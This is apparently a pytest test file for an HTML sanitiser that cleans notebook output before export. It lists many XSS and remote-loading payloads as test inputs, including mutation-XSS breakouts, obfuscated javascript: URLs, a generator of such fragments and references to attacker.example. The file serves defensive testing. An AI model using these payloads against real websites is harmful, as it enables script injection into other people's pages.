"""The sanitiser: what a notebook may put on a client's page, and what it may not.

``problems_in`` reads a page as a browser does (tinyhtml5, an HTML5 parser) and lists anything
active or loading; the exporter tests use it too.
"""

from __future__ import annotations

import base64
import re
from xml.etree import ElementTree

import pandas as pd
import pytest
import tinycss2
import tinyhtml5
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pilotfunnel.export.nbconvert import sanitise
from pilotfunnel.export.nbconvert.csp import content_security_policy
from pilotfunnel.export.nbconvert.css import css_url_allowed
from pilotfunnel.export.nbconvert.fetcher import ExportFetcher
from pilotfunnel.export.nbconvert.mathtex import tex_to_svg
from pilotfunnel.export.nbconvert.preprocessors import _widget_html
from pilotfunnel.export.nbconvert.sanitise import Refusal, Sanitiser
from pilotfunnel.export.nbconvert.urls import canonical_url, scheme_of
from pilotfunnel.model import funnel
from pilotfunnel.views import charts

from ..conftest import FIXTURES

HOSTILE = FIXTURES / "hostile" / "notebooks"
REMOTE = "http://attacker.example"
GIF = "data:image/gif;base64,R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw=="

# --- reading a page as a browser does ------------------------------------------------------
ACTIVE = {"script", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "base"}
ACTIVE |= {"portal", "foreignObject", "set", "animate", "animateTransform", "animateMotion"}
# Attributes a browser (or WeasyPrint) loads from; href is judged by its element.
LOADING = {"src", "srcset", "poster", "data", "action", "formaction", "background", "ping"}
LOADING |= {"lowsrc", "dynsrc", "longdesc", "codebase", "archive", "manifest", "icon", "srcdoc"}
CSS_VALUED = {"style", "fill", "stroke", "clip-path", "mask", "filter", "cursor"}
CSS_VALUED |= {"marker-start", "marker-mid", "marker-end"}


def css_problems(css: str) -> list[str]:
    """Each resource CSS names that is not data: or #id, and each @import."""
    found = []

    def walk(nodes) -> None:
        for node in nodes or ():
            if node.type == "url" and not _inline(node.value):
                found.append(f"url({node.value})")
            elif node.type == "function":
                if node.lower_name in ("url", "src", "image-set", "-webkit-image-set", "image"):
                    for arg in node.arguments:
                        if arg.type == "string" and not _inline(arg.value):
                            found.append(f"{node.lower_name}({arg.value})")
                walk(node.arguments)
            elif node.type in ("() block", "[] block", "{} block"):
                walk(node.content)
            elif node.type == "at-keyword" and node.lower_value == "import":
                found.append("@import")

    walk(tinycss2.parse_component_value_list(css))
    return found


def _inline(url: str) -> bool:
    url = canonical_url(url)
    return url.startswith("#") or scheme_of(url) == "data"


def problems_in(page: str, kit_scripts: tuple[str, ...] = ()) -> list[str]:
    """Whatever on the page could run, load from elsewhere or embed a file, as found by an
    HTML5 parser (the same algorithm a browser uses), one line each."""
    problems = []
    for element in tinyhtml5.parse(page).iter():
        if not isinstance(element.tag, str):
            continue  # a comment
        tag = element.tag.rsplit("}", 1)[-1]
        if tag in ACTIVE and not (tag == "script" and (element.text or "") in kit_scripts):
            problems.append(f"<{tag}>")
        if tag == "meta" and element.get("http-equiv", "").lower() == "refresh":
            problems.append("<meta http-equiv=refresh>")
        if tag == "style":
            problems += [f"<style> {p}" for p in css_problems(element.text or "")]
        for name, value in element.attrib.items():
            local = name.rsplit("}", 1)[-1].lower()
            url = canonical_url(value)
            if local.startswith("on"):
                problems.append(f"<{tag} {local}>")
            elif local == "href" and tag == "a":
                if not (url.startswith("#") or scheme_of(url) in ("http", "https", "mailto")):
                    problems.append(f"<a href={url[:60]}>")
            elif local == "href" and not (url.startswith("#") or scheme_of(url) == "data"):
                problems.append(f"<{tag} href={url[:60]}>")
            elif local in LOADING:
                urls = [c.split()[0] for c in value.split(", ") if c.split()] or [url]
                if local == "srcdoc" or any(not _inline(u) for u in urls):
                    problems.append(f"<{tag} {local}={url[:60]}>")
            elif local == "rel" and "attachment" in value.lower().split():
                problems.append(f"<{tag} rel=attachment>")
            if local in CSS_VALUED:
                problems += [f"<{tag} {local}> {p}" for p in css_problems(value)]
            if scheme_of(url) == "data" and url[5:].lower().startswith(("text/html", "app")):
                problems.append(f"<{tag} {local}=data:{url[5:30]}>")
    return problems


def page_of(fragment: str) -> str:
    return f"<!DOCTYPE html><html><head><title>t</title></head><body>{fragment}</body></html>"


def clean(fragment: str, **kwargs) -> tuple[str, Sanitiser]:
    sanitiser = Sanitiser(**kwargs)
    return sanitiser.clean(fragment, "cell 1"), sanitiser


def test_the_checker_sees_what_a_browser_would_run():
    # The checker itself: each of these is a problem on a page as it stands.
    for bad in (
        "<script>x</script>",
        '<img src="x" onerror="y">',
        '<a href="jav&#x09;ascript:x">a</a>',
        f'<img src="{REMOTE}/x.png">',
        f'<div style="background: u\\72l({REMOTE}/x)">d</div>',
        f"<style>@import '{REMOTE}/x.css';</style>",
        '<svg><use href="http://e/x.svg#a"/></svg>',
        '<a rel="noopener ATTACHMENT" href="x">a</a>',
        '<meta http-equiv="Refresh" content="0;url=http://e">',
    ):
        assert problems_in(page_of(bad)), bad
    assert problems_in(page_of(f'<img src="{GIF}" alt="x"><a href="#x">x</a>')) == []


# --- one test per attack class -------------------------------------------------------------
@pytest.mark.parametrize(
    "fragment",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//attacker.example/x.js></SCRIPT>",
        '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "<scr<script>ipt>alert(1)</script>",
        "<svg><style>&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;</style></svg>",
        "<math><mi><style><img src=x onerror=alert(1)></style></mi></math>",
        '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    ],
)
def test_scripts_are_removed(fragment):
    out, _ = clean(fragment)
    assert problems_in(page_of(out)) == [] and "<script" not in out.lower()


@pytest.mark.parametrize(
    "fragment",
    [
        '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onerror="alert(1)" alt="x">',
        '<details open ontoggle="alert(1)"><summary>s</summary></details>',
        '<svg onload="alert(1)"><rect OnClIcK="alert(2)" width="1" height="1"/></svg>',
        '<div onpointerenter=alert(1) onfocusin=alert(2) onanimationstart="x">d</div>',
        '<svg><animate onbegin="alert(1)" attributeName="x"/><set attributeName="href" '
        'to="javascript:alert(1)"/></svg>',
    ],
)
def test_event_handlers_are_removed(fragment):
    out, _ = clean(fragment)
    assert problems_in(page_of(out)) == [] and not re.search(r"\son\w+=", out, re.I)


@pytest.mark.parametrize(
    "href",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "jav&#x09;ascript:alert(1)",
        "jav&#10;ascript:alert(1)",
        " &#14; javascript:alert(1)",
        "&#106;avascript:alert(1)",
        "java\nscript:alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "https:javascript:alert(1)",
    ],
)
def test_script_urls_are_removed_from_links_in_html_and_svg(href):
    for fragment in (
        f'<a href="{href}">x</a>',
        f'<svg><a xlink:href="{href}"><text>t</text></a></svg>',
        f'<img src="{href}" alt="x">',
    ):
        out, _ = clean(fragment)
        assert problems_in(page_of(out)) == [], (fragment, out)
        assert "javascript" not in out.lower() and "text/html" not in out


@pytest.mark.parametrize(
    "fragment",
    [
        '<iframe src="https://attacker.example/"></iframe>',
        '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
        '<object data="https://attacker.example/x.swf"><param name="a" value="b"></object>',
        '<embed src="https://attacker.example/x.swf">',
        '<form action="https://attacker.example/"><input name="p"><button>Go</button></form>',
        '<base href="https://attacker.example/">',
        '<meta http-equiv="refresh" content="0; url=https://attacker.example/">',
        '<frameset><frame src="https://attacker.example/"></frameset>',
    ],
)
def test_frames_objects_forms_base_and_refresh_are_removed(fragment):
    out, _ = clean(fragment)
    assert problems_in(page_of(out)) == []
    assert not re.search(r"<(iframe|object|embed|form|base|meta|frame|input)\b", out)


@pytest.mark.parametrize(
    "fragment",
    [
        f'<img src="{GIF}" srcset="{REMOTE}/a.png 1x, {REMOTE}/b.png 2x" alt="x">',
        f'<picture><source srcset="{REMOTE}/p.webp"><img src="{GIF}" alt="p"></picture>',
        f'<video poster="{REMOTE}/p.png" src="{REMOTE}/v.mp4"><source src="{REMOTE}/v.webm">'
        f'<track src="{REMOTE}/t.vtt"></video>',
        f'<audio src="{REMOTE}/a.mp3"></audio>',
        f'<link rel="stylesheet" href="{REMOTE}/s.css">',
        f'<div style="background: url({REMOTE}/bg.png)">d</div>',
        f'<div style="background: \\75 rl({REMOTE}/esc.png)">d</div>',
        f"<div style=\"background: image-set('{REMOTE}/set.png' 1x)\">d</div>",
        f"<style>@import url({REMOTE}/i.css); p {{ background: url('{REMOTE}/c.png') }}</style>",
        f'<style>@import "{REMOTE}/j.css";</style>',
        f"<style>@font-face {{ font-family: X; src: url({REMOTE}/f.woff) }}</style>",
        f'<svg><image href="{REMOTE}/i.png"/><use href="{REMOTE}/u.svg#a"/></svg>',
        f'<svg><use xlink:href="{REMOTE}/u.svg#a"/><rect fill="url({REMOTE}/g.svg#g)"/></svg>',
        f"<svg><style>rect {{ fill: url({REMOTE}/h.svg#g) }}</style></svg>",
        f'<img src="{REMOTE}/px.png" alt="remote"><img src="//attacker.example/x" alt="x">',
        f'<table background="{REMOTE}/t.png"><tr><td>t</td></tr></table>',
    ],
)
def test_network_references_are_refused_with_a_warning(fragment):
    out, sanitiser = clean(fragment)
    assert problems_in(page_of(out)) == []
    assert "attacker.example" not in out
    if "background=" not in fragment:  # a legacy attribute nh3 drops unseen, loading nothing
        assert sanitiser.refusals, "a refused URL is a warning"
        assert all(r.where == "cell 1" for r in sanitiser.refusals)


@pytest.mark.parametrize(
    "rel",
    ["noopener attachment", "ATTACHMENT", " attachment ", "Attachment\tnofollow", "x attachment"],
)
def test_no_attachment_under_any_spelling_of_rel(rel):
    for fragment in (f'<a rel="{rel}" href="#x">a</a>', f'<link rel="{rel}" href="x.png">'):
        out, _ = clean(fragment)
        assert "attachment" not in out.lower() and problems_in(page_of(out)) == []


def test_plain_links_and_mailto_stay_and_a_relative_link_goes():
    out, sanitiser = clean(
        '<a href="https://example.com/a?b=1">web</a> <a href="mailto:x@example.com">mail</a> '
        '<a href="#s">here</a> <a href="other.ipynb">relative</a> <a href="file:///etc/passwd">f</a>'
    )
    assert '<a href="https://example.com/a?b=1">web</a>' in out
    assert '<a href="mailto:x@example.com">mail</a>' in out and '<a href="#s">here</a>' in out
    assert "<a>relative</a>" in out and "<a>f</a>" in out
    assert [r.action for r in sanitiser.refusals] == ["link removed", "link removed"]


def test_css_that_names_nothing_else_is_kept_byte_for_byte():
    css = ".pf-x { color: red; clip-path: url(#c1) } @media print { p { margin: 0 } }"
    out, sanitiser = clean(f'<style>{css}</style><p style="fill: url(#g); color: #fff">p</p>')
    assert f"<style>{css}</style>" in out and 'style="fill: url(#g); color: #fff"' in out
    assert sanitiser.refusals == []
    assert css_url_allowed("data:font/woff2;base64,AAAA") and not css_url_allowed("x.png")
    assert not css_url_allowed("data:image/svg+xml,<svg onload=alert(1)>")


def test_a_refusal_reads_as_one_short_line():
    long = "javascript:" + "a" * 5000 + "\n\x1b[31m"
    line = str(Refusal("cell 3", "link removed", long, "links may go to the web"))
    assert "\n" not in line and len(line) < 220 and "\x1b" not in line


def test_the_content_security_policy_allows_no_script_but_the_kits_by_hash():
    policy = content_security_policy()
    assert "default-src 'none'" in policy and "script-src 'none'" in policy
    assert "img-src data:" in policy and "font-src data:" in policy
    live = "document.body.dataset.live = 1;"
    digest = base64.b64encode(__import__("hashlib").sha256(live.encode()).digest()).decode()
    assert f"script-src 'sha256-{digest}'" in content_security_policy([live])


# --- what the kit itself puts on the page survives -----------------------------------------
def _tree(svg: str) -> list[tuple]:
    """An SVG as (tag, attributes, text) per element, without its <metadata>."""
    root = ElementTree.fromstring(svg)
    for metadata in root.findall("{http://www.w3.org/2000/svg}metadata"):
        root.remove(metadata)
    return [(e.tag, dict(e.attrib), (e.text or "").strip()) for e in root.iter()]


@pytest.fixture(scope="module")
def kit_charts(project, demo):
    result = funnel.run(demo, funnel.model_of(project), draws=300)
    brand = project.brand
    made = [charts.funnel_chart(result, brand), charts.stalling_chart(result, brand)]
    made.append(charts.sensitivity_chart(result, brand))
    return [chart.svg(with_note=False, text_as_text=True) for chart in made] + [
        made[0].svg(with_note=True, text_as_text=False)  # glyphs as outlines: <defs>, <use>
    ]


def test_the_kits_charts_come_through_the_sanitiser_unchanged_but_for_metadata(kit_charts):
    for svg in kit_charts:
        out, sanitiser = clean(svg[svg.index("<svg") :])
        assert sanitiser.refusals == []
        assert _tree(out) == _tree(svg[svg.index("<svg") :])
        assert 'viewBox="' in out and "<metadata" not in out


def test_the_kits_math_tables_and_widgets_come_through():
    math = tex_to_svg(r"\frac{4}{33} \approx 12.1\%", True)
    out, _ = clean(math)
    svg = lambda html: html[html.index("<svg") : html.rindex("</svg>") + 6]  # noqa: E731
    assert _tree(svg(out)) == _tree(svg(math))
    table = pd.DataFrame({"a": [1.5, 2.25], "b": ["x", "y"]}).to_html()
    out, _ = clean(table)
    assert out.count("<td>") == 4 and '<table class="dataframe">' in out
    widget = _widget_html(["Readiness: 3 (from 0 to 4)"])
    assert clean(widget)[0] == widget


# --- images from the notebook's folder ------------------------------------------------------
def test_only_real_images_are_inlined_and_an_svg_is_cleaned_first(tmp_path):
    folder = tmp_path / "nb"
    folder.mkdir()
    for name in ("notes.txt", "fake.png", "real.png", "evil.svg", "laughs.svg"):
        (folder / name).write_bytes((HOSTILE / name).read_bytes())
    sanitiser = Sanitiser(folder, ExportFetcher([folder]))
    out = sanitiser.clean(
        '<img src="notes.txt" alt="notes"><img src="fake.png" alt="fake">'
        '<img src="real.png" alt="real"><img src="evil.svg" alt="evil">'
        '<img src="laughs.svg" alt="bomb">',
        "cell 2",
    )
    assert "[notes: not included]" in out and "[fake: not included]" in out
    assert "[bomb: not included]" in out
    assert '<img src="data:image/png;base64,' in out
    inlined = re.search(r'src="data:image/svg\+xml;base64,([^"]+)" alt="evil"', out)
    svg = base64.b64decode(inlined.group(1)).decode()
    assert ElementTree.fromstring(svg).get("viewBox") == "0 0 20 10"
    assert "script" not in svg and "onload" not in svg and "attacker" not in svg
    refused = {r.url: r.reason for r in sanitiser.refusals}
    assert "judged by its content" in refused["notes.txt"] and "fake.png" in refused
    assert all(r.where == "cell 2" for r in sanitiser.refusals)


def test_without_a_folder_nothing_is_read_from_disk():
    out, sanitiser = clean('<img src="/etc/hostname" alt="h"><img src="x.png" alt="x">')
    assert "[h: not included]" in out and len(sanitiser.refusals) == 2


# --- generated hostile fragments ------------------------------------------------------------
@st.composite
def script_urls(draw) -> str:
    """javascript:/vbscript:/data:text/html spelled as browsers still read them."""
    scheme = draw(st.sampled_from(["javascript", "vbscript", "data"]))
    spelled = []
    for char in scheme:
        char = char.upper() if draw(st.booleans()) else char
        spelled.append(draw(st.sampled_from([char, char, f"&#{ord(char)};", f"&#x{ord(char):x};"])))
        if draw(st.integers(0, 5)) == 0:
            spelled.append(draw(st.sampled_from(["\t", "\n", "&#x09;", "&#10;", "&Tab;"])))
    lead = draw(st.sampled_from(["", " ", "\x01", "&#14;", " \t "]))
    rest = ":text/html,<script>alert(1)</script>" if scheme == "data" else ":alert(1)"
    return lead + "".join(spelled) + rest


remote_urls = st.builds(
    lambda scheme, path: f"{scheme}attacker.example/{path}",
    st.sampled_from(["http://", "https://", "HTTPS://", "//", "\\\\", "ftp://"]),
    st.from_regex(r"[a-z]{1,8}\.(png|css|svg#a|woff)", fullmatch=True),
)
handler_names = st.builds(
    lambda prefix, name: prefix + name,
    st.sampled_from(["on", "ON", "On", "oN"]),
    st.text("abcdefghijklmnopqrstuvwxyz", min_size=1, max_size=12),
)
css_urls = st.builds(
    lambda spelling, url: spelling.format(url),
    st.sampled_from(
        ["url({})", "URL( '{}' )", "u\\72l({})", "\\75 rl({})", "image-set('{}' 1x)", "src('{}')"]
    ),
    remote_urls,
)
rels = st.lists(
    st.sampled_from(["attachment", "ATTACHMENT", "Attachment", "noopener", "nofollow"]),
    min_size=1,
    max_size=3,
).map(lambda tokens: " ".join(tokens) if "attachment" in " ".join(tokens).lower() else "attachment")


def hostile_fragments() -> st.SearchStrategy[str]:
    """One hostile fragment: a script, a handler, a script URL, an embedding, a network
    reference or an attachment, in HTML or SVG, nested in ordinary markup."""
    tags = st.sampled_from(["img", "div", "svg", "details", "a", "p", "video", "body", "rect"])
    pieces = st.one_of(
        st.just("<script>alert(1)</script>"),
        remote_urls.map(lambda u: f'<SCRIPT src="{u}"></SCRIPT>'),
        st.just('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
        st.builds(lambda t, h: f'<{t} {h}="alert(1)">x</{t}>', tags, handler_names),
        handler_names.map(lambda h: f'<svg><rect {h}="alert(1)"/><g {h}=alert(2)></g></svg>'),
        script_urls().map(lambda u: f'<a href="{u}">x</a>'),
        script_urls().map(lambda u: f'<svg><a xlink:href="{u}"><text>t</text></a></svg>'),
        script_urls().map(lambda u: f'<iframe src="{u}"></iframe><img src="{u}" alt="i">'),
        remote_urls.map(lambda u: f'<img src="{GIF}" srcset="{u} 1x, {u} 2x" alt="s">'),
        remote_urls.map(lambda u: f'<picture><source srcset="{u}"><img src="{u}"></picture>'),
        remote_urls.map(lambda u: f'<video poster="{u}" src="{u}"></video><audio src="{u}">'),
        remote_urls.map(lambda u: f'<link rel="stylesheet" href="{u}">'),
        css_urls.map(lambda c: f'<div style="background: {c}">d</div>'),
        css_urls.map(lambda c: f"<style>p {{ background: {c} }}</style>"),
        remote_urls.map(lambda u: f"<style>@import '{u}'; @import url({u});</style>"),
        remote_urls.map(lambda u: f'<svg><image href="{u}"/><use href="{u}"/></svg>'),
        remote_urls.map(lambda u: f'<svg><svg><svg onload="x"><image xlink:href="{u}"/></svg>'),
        st.sampled_from(
            [
                '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
                '<object data="x.swf"></object><embed src="x.swf">',
                '<form action="https://attacker.example/"><input name="p"></form>',
                '<base href="https://attacker.example/">',
                '<meta http-equiv="refresh" content="0;url=https://attacker.example/">',
                '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
                "<math><mi><style><img src=x onerror=alert(1)></style></mi></math>",
                "<![CDATA[<script>alert(1)</script>]]>",
            ]
        ),
        rels.map(lambda r: f'<a rel="{r}" href="#x">a</a><link rel="{r}" href="x.png">'),
    )
    wrappers = st.sampled_from(["{}", "<div>{}</div>", "<p>x {} y</p>", "<svg>{}</svg>"])
    return st.builds(lambda w, p: w.format(p), wrappers, pieces)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(hostile_fragments(), min_size=1, max_size=4).map("".join))
def test_generated_hostile_fragments_come_out_inert(fragment):
    out, _ = clean(fragment)
    assert problems_in(page_of(out)) == [], (fragment, out)
    assert "<script" not in out.lower() and "javascript:" not in out.lower()


def test_a_page_inlines_a_bounded_amount_of_images(tmp_path, monkeypatch):
    (tmp_path / "real.png").write_bytes((HOSTILE / "real.png").read_bytes())
    monkeypatch.setattr(sanitise, "MAX_INLINED_BYTES", 250)  # two copies of a 96-byte image
    sanitiser = Sanitiser(tmp_path, ExportFetcher([tmp_path]))
    out = sanitiser.clean('<img src="real.png" alt="r">' * 5, "cell 1")
    assert out.count("data:image/png") == 2 and out.count("[r: not included]") == 3
    assert len(sanitiser.refusals) == 1 and "of images already" in str(sanitiser.refusals[0])
